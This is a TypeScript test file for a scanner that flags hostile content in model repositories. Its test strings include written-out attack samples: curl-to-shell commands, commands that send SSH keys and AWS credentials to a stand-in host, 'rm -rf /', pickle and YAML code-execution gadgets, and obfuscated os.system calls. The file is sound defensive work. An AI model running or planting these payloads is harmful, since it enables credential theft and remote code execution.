import assert from 'node:assert/strict';
import test from 'node:test';
import { Coverage } from '../../findings/coverage.ts';
import type { Part, Report } from '../format.ts';
import { Bytes } from '../source.ts';
import { text } from './index.ts';

async function rules(name: string, content: string): Promise<string[]> {
  const { reports, unread } = await readAs(name, content);
  assert.equal(unread, 0);
  return reports.map(({ rule, severity }) => (severity === undefined ? rule : `${rule} ${severity}`));
}

async function readAs(name: string, content: string): Promise<{ reports: Report[]; unread: number }> {
  const reports: Report[] = [];
  const source = new Bytes(new TextEncoder().encode(content));
  const coverage = new Coverage(source.size);
  const part: Part = {
    path: [name],
    source,
    coverage,
    calls: {
      lookUp: (module, attribute) => ({
        verdict: `${module}.${attribute}` === 'os.system' ? 'dangerous' : 'unknown',
        why: 'it runs commands',
      }),
    },
    report: (report) => void reports.push(report),
    readText: () => {},
    inside: async () => {},
    unpack: async () => assert.fail(),
    pause: () => undefined,
    beside: () => {},
    note: () => {},
  };
  await text.read(part);
  return { reports, unread: coverage.bytes.unread };
}

test('requirements from elsewhere are told, those of the usual index are not', async () => {
  for (const line of [
    '--index-url https://example.com/simple',
    '--extra-index-url=http://10.0.0.1/',
    '-f ./wheels',
    '-i https://user:secret@example.com/simple',
    'git+https://github.com/evil/transformers',
    'torch @ https://example.com/torch.whl',
    '-e git+ssh://git@example.com/x.git#egg=x',
    'https://example.com/x-1.0-py3-none-any.whl',
    '../local',
    '--trusted-host example.com',
    '--index-u https://example.com/simple',
    '--pre -i https://example.com/simple',
    '-ihttps://example.com/simple',
    '-r https://example.com/r.txt',
    '"x @ https://example.com/x.whl"',
    '--extra-index-url \\\n  https://example.com/simple',
  ])
    assert.deepEqual(
      await rules('requirements.txt', `torch==2.1\n${line}\n`),
      ['repo.requirement-source'],
      line,
    );
  assert.deepEqual(
    await rules(
      'requirements.txt',
      '# see https://example.com\ntorch>=2.1 # ok\n--extra-index-url https://download.pytorch.org/whl/cu121\n-r other.txt\nnumpy[all]==1.0 --hash=sha256:00\n',
    ),
    [],
  );
});

test('YAML is looked at like other settings', async () => {
  assert.deepEqual(await rules('model_config.yaml', 'a:\n  _target_: os.system\n  command: id\n'), [
    'repo.dangerous-target',
  ]);
  assert.deepEqual(await rules('c.yml', 'auto_map: {AutoModel: "evil/repo--m.N"}\n'), ['repo.remote-code']);
  assert.deepEqual(
    await rules('c.yml', '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n'),
    ['yaml.python-object'],
  );
  assert.deepEqual(await rules('c.yml', 'lr: 1e-4\nlayers: [1, 2]\nname: net\n'), []);
});

test('scripts that fetch and run are told', async () => {
  assert.deepEqual(await rules('run.sh', '#!/bin/sh\ncurl -s https://example.com/i.sh | sudo bash\n'), [
    'code.hostile-command',
  ]);
  assert.deepEqual(
    await rules('run.sh', '#!/bin/sh\npip install -r requirements.txt\npython train.py | tee log\n'),
    [],
  );
});

test('a set-up with commands of its own is told', async () => {
  assert.deepEqual(
    await rules('setup.py', 'from setuptools import setup\nsetup(name="x", cmdclass={"install": I})\n'),
    ['repo.install-hook'],
  );
  assert.deepEqual(await rules('setup.py', 'from setuptools import setup\nsetup(name="x")\n'), []);
});

test('code of models as it is written passes', async () => {
  assert.deepEqual(
    await rules(
      'modeling_x.py',
      'import os, math\nimport torch\nfrom torch import nn\nimport requests\nfrom PIL import Image\n\nclass N(nn.Module):\n    def __init__(self, c):\n        super().__init__()\n        self.path = os.path.join("a", "b")\n    def image(self, url):\n        return Image.open(requests.get(url, stream=True).raw)\n\nmodel = N(None)\nmodel.eval()\nx = torch.compile(model)\nre.compile("a")\n',
    ),
    [],
  );
});

test('what code hands on, sends away, or puts together is told', async () => {
  const all: readonly (readonly [code: string, rule: string])[] = [
    [
      "class A:\n  def __reduce__(self):\n    import os\n    return (os.system, ('id',))\n",
      'code.runs-command',
    ],
    ["class A:\n  def __reduce__(self):\n    return exec, ('x',)\n", 'code.runs-command'],
    [
      "import requests, os\ndef f():\n  requests.post('http://example.com', data=dict(os.environ))\n",
      'code.sends-secrets',
    ],
    [
      "import urllib.request as u\nu.urlopen('http://example.com/?' + open('/root/.ssh/id_rsa').read())\n",
      'code.sends-secrets',
    ],
    ["__import__(''.join(['o', 's'])).system('id')\n", 'code.hidden-code'],
  ];
  for (const [code, rule] of all)
    assert.ok(
      (await rules('m.py', code)).some((one) => one.startsWith(rule)),
      code,
    );
  assert.deepEqual(
    await rules(
      'm.py',
      'import subprocess, os\ntry:\n    f(subprocess.PIPE, mode=eval)\nexcept (subprocess.CalledProcessError, OSError):\n    x = os.path, 1\n',
    ),
    [],
  );
});

test('lists of conda are requirements as well', async () => {
  assert.deepEqual(
    await rules(
      'environment.yml',
      'channels:\n  - conda-forge\ndependencies:\n  - python=3.10\n  - pip:\n    - torch==2\n',
    ),
    [],
  );
  assert.deepEqual(
    await rules('env.yaml', 'dependencies:\n  - pip:\n    - "x @ https://example.com/x.whl"\n'),
    ['repo.requirement-source'],
  );
  assert.deepEqual(
    await rules('environment.yml', 'dependencies:\n  - pip:\n    - git+https://example.com/x\n'),
    ['repo.requirement-source'],
  );
});

test('tags that call, and names that stand elsewhere, are followed', async () => {
  for (const one of [
    'a: !apply:os.system [id]\n',
    'a: !new:os.system\n  command: id\n',
    'a: !name:os.system\n',
    'a: &t os.system\nb:\n  _target_: *t\n',
  ])
    assert.deepEqual([...new Set(await rules('h.yaml', one))], ['repo.dangerous-target'], one);
  for (const one of [
    'a: !<tag:yaml.org,2002:p%79thon/object/apply:os.system> [id]\n',
    'a: !!javax.script.ScriptEngineManager []\n',
    'a: !ruby/object:Gem::Installer\n  i: x\n',
  ])
    assert.deepEqual(await rules('h.yaml', one), ['yaml.python-object'], one);
  assert.deepEqual(await rules('README.md', '---\na: !!python/object/apply:os.system [id]\n---\n# x\n'), [
    'yaml.python-object',
  ]);
  assert.deepEqual(
    await rules('h.yaml', 'a: &x {lr: 1}\nb: *x\nc: !new:torch.nn.Linear\n  n: !ref <a>\nd: *nothing\n'),
    [],
  );
});

test('no text takes much longer than its length, and nothing is hidden behind blanks', async () => {
  const names = [
    'setup.cfg',
    'pyproject.toml',
    '.gitconfig',
    '.npmrc',
    'Dockerfile',
    'Modelfile',
    'x.json',
    'x.jsonc',
    '.envrc',
  ];
  for (const unit of ['\n', '\r', '\u2028', ' ', ' \n', '\t', '\\"', "\\'", '[', "'\\'", '"\\'])
    for (const name of names) await rules(name, `{"a": x\n${unit.repeat(60_000)}`);
  const far = `[options]\n${' \n'.repeat(400_000)}[options.cmdclass]\n${'\n'.repeat(100_000)}cmdclass = x.y\n`;
  assert.deepEqual(await rules('setup.cfg', far), ['repo.install-hook']);
});

test('YAML of errors or of aliases alone takes no longer than its length', async () => {
  // The parser shows every error with its line cut out anew, and looks for the anchor of each alias from the start.
  await rules('h.yaml', ' a: x]the##ing\n'.repeat(8_000));
  await rules('h.yaml', `a: &a x\nb:\n${'- *a\n'.repeat(30_000)}`);
  // Once where it stands, and once where it is called.
  assert.deepEqual(await rules('h.yaml', 'a: &t x\nb: &t os.system\nc:\n  _target_: *t\nd: &t y\n'), [
    'repo.dangerous-target',
    'repo.dangerous-target',
  ]);
});

test('commands of tasks, scripts and images', async () => {
  for (const [name, command] of [
    ['run.sh', 'bash -c "$(curl -fsSL https://example.com/x)"'],
    ['run.sh', 'bash <(curl -s https://example.com/x)'],
    ['run.sh', 'curl https://example.com/x -o /tmp/x && chmod +x /tmp/x && /tmp/x'],
    ['run.sh', 'cat ~/.ssh/id_rsa | curl -d @- https://example.com'],
    ['run.sh', 'curl -F f=@$HOME/.aws/credentials https://example.com'],
    ['run.sh', 'cu\\\nrl https://example.com/x | s\\\nh'],
    ['run.sh', 'rm -rf /'],
    ['cog.yaml', 'build:\n  run:\n    - curl https://example.com/x | sh'],
  ] as const)
    assert.deepEqual(await rules(name, `${command}\n`), ['code.hostile-command'], command);
  assert.deepEqual(await rules('model.R', 'system("curl https://example.com/x | sh")\n'), [
    'code.runs-command',
    'code.hostile-command',
  ]);
  for (const [name, command] of [
    ['Dockerfile', 'RUN apt-get install -y curl && rm -rf /var/lib/apt/lists/*'],
    ['Dockerfile', 'RUN curl -o /usr/bin/tini https://example.com/tini && chmod +x /usr/bin/tini'],
    ['run.sh', 'curl -s http://localhost:8000/health | python -m json.tool'],
    ['README.md', 'curl -fsSL https://example.com/install.sh | sh'],
  ] as const)
    assert.deepEqual(await rules(name, `${command}\n`), [], command);
});

test('commands are found however they are called', async () => {
  for (const code of [
    'import os\n(os.system)("id")\n',
    'import os\n[os.system][0]("id")\n',
    'import os\n{"a": os.system}["a"]("id")\n',
    'import os\nif (s := os.system)("id"): pass\n',
    'import os\n@os.system\ndef f(): pass\n',
    'from os import *\nsystem("id")\n',
    'import torch\ntorch.os.system("id")\n',
  ])
    assert.ok(
      (await rules('m.py', code)).some((one) => one.startsWith('code.runs-command')),
      code,
    );
  assert.deepEqual(
    await rules(
      'm.py',
      'from os import *\nx = path.join("a")\nf(mode=eval)\nself.os.name\n@torch.no_grad()\ndef f(): pass\n',
    ),
    [],
  );
});

test('code that hides, or that stays, is told', async () => {
  for (const [code, rule] of [
    ['# hi\rimport os\ros.system("id")\r', 'code.runs-command'],
    ['import os\nx = f"{os.system(\'id\')}"\n', 'code.runs-command'],
    ['__import__("o" + "s").__getattribute__("sys" + "tem")("id")\n', 'code.runs-command'],
    ['import operator, os\noperator.attrgetter("system")(os)("id")\n', 'code.runs-command'],
    [`#${'a'.repeat(5 << 20)}\nimport os\nos.system("id")\n`, 'code.runs-command'],
    ['x = ().__class__.__base__.__subclasses__()\n', 'code.hidden-code'],
    ['import timeit\ntimeit.timeit("import os; os.system(1)")\n', 'code.hidden-code'],
    ['# -*- coding: utf-7 -*-\n+AGkAbQ-\n', 'code.hidden-code'],
    ['from pathlib import Path\n(Path.home() / ".bashrc").open("a")\n', 'code.persists'],
  ] as const)
    assert.ok(
      (await rules('m.py', code)).some((one) => one.startsWith(rule)),
      code.slice(0, 100),
    );
  assert.deepEqual(
    await rules(
      'm.py',
      '# -*- coding: utf-8 -*-\r\nimport os, timeit\r\ntimeit.timeit("f(1)", globals=globals())\r\nall = [c for c in Base.__subclasses__()]\r\nx = f"{len(all)} of {{len(x)}}"\r\n',
    ),
    [],
  );
});

test('settings of packages say where they come from', async () => {
  for (const [name, line] of [
    ['pyproject.toml', '[build-system]\nrequires = ["setuptools", "x @ https://example.com/x.whl"]'],
    ['pyproject.toml', '[project]\ndependencies = ["x @ git+https://example.com/x"]'],
    ['pyproject.toml', '[[tool.uv.index]]\nurl = "https://example.com/simple"'],
    ['pyproject.toml', '[tool.poetry.dependencies]\nx = {git = "https://example.com/x.git"}'],
    ['pip.conf', '[global]\nindex-url = https://example.com/simple'],
    ['Pipfile', '[[source]]\nurl = "https://example.com/simple"'],
  ] as const)
    assert.deepEqual(await rules(name, `${line}\n`), ['repo.requirement-source'], line);
  assert.deepEqual(
    await rules(
      'pyproject.toml',
      '[project]\nname = "x"\ndependencies = ["torch>=2"]\n[project.urls]\nHomepage = "https://example.com"\nurl = "https://example.com"\n[[tool.uv.index]]\nurl = "https://download.pytorch.org/whl/cu121"\n',
    ),
    [],
  );
  assert.deepEqual(await rules('setup.cfg', '[metadata]\nname = x\nurl = https://example.com\n'), []);
});

test('YAML that is not read to its end is not called clean', async () => {
  const deep = `${Array.from({ length: 80 }, (_, depth) => `${' '.repeat(depth)}a:`).join('\n')} 1\n`;
  const long = 'a: 1\n'.repeat(900_000);
  for (const text of [deep, long, '['.repeat(20_000)])
    assert.equal((await readAs('h.yaml', text)).unread, text.length);
});
